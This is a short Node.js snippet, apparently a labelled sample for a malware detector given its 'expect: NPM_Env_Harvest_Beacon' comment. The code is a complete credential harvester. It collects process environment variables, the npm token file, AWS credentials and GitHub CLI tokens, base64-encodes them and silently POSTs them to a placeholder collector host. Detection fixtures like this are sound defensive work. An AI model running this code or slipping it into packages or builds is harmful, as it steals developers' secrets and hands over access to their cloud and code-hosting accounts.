// expect: NPM_Env_Harvest_Beacon
const os = require("os"), fs = require("fs"), https = require("https");
const h = os.homedir();
const grab = (p) => { try { return fs.readFileSync(h + p, "utf8"); } catch (e) { return ""; } };
const body = Buffer.from(JSON.stringify({
  env: process.env,
  npm: grab("/.npmrc"),
  aws: grab("/.aws/credentials"),
  gh: grab("/.config/gh/hosts.yml"),
})).toString("base64");
const r = https.request({ hostname: "collector.pkg-metrics.example", path: "/v2/i", method: "POST" });
r.on("error", () => {}); r.end(body);
